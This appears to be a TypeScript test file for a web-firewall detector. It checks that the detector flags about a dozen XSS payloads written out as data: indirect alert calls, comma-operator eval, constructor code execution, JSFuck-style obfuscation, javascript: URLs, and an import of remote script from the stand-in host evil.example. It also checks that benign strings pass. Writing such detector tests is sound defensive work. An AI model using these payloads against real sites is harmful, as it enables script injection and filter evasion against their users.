// Scripts that are the whole value, and the code and prose that only name what they call.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { subjectOf } from '../../../test/waf-asking.ts';
import { detectBareScript } from './script-bare.ts';

const attacks = [
  'a=alert;a(1)',
  '(alert)(1)',
  'alert.call(null,1)',
  '[1].find(alert)',
  'onerror=alert;throw 1',
  "location='javascript:x()'",
  "import('//evil.example/x.js')",
  '(1,eval)(x)',
  "[].map.constructor('x')()",
  '[][(![]+[])[+[]]+(![]+[])[+!+[]]]',
  'try{throw 1}catch(e){alert(e)}',
  'background:url(javascript:x)',
];
const ordinary = [
  'alert("Your order was sent");',
  'price alert (daily) for shoes',
  'el.onclick = function() { alert("hi"); };',
  'location=Berlin&radius=5',
  'items.map(item => item.id)',
  '[1](2)',
  'see document and location for more about alert(1) and the like',
];

describe('a script that is the whole value', () => {
  for (const text of attacks) test(text, () => assert.equal(detectBareScript(subjectOf(text))?.id, 1041019));
  for (const text of ordinary) test(`passes: ${text}`, () => assert.equal(detectBareScript(subjectOf(text)), null));
});
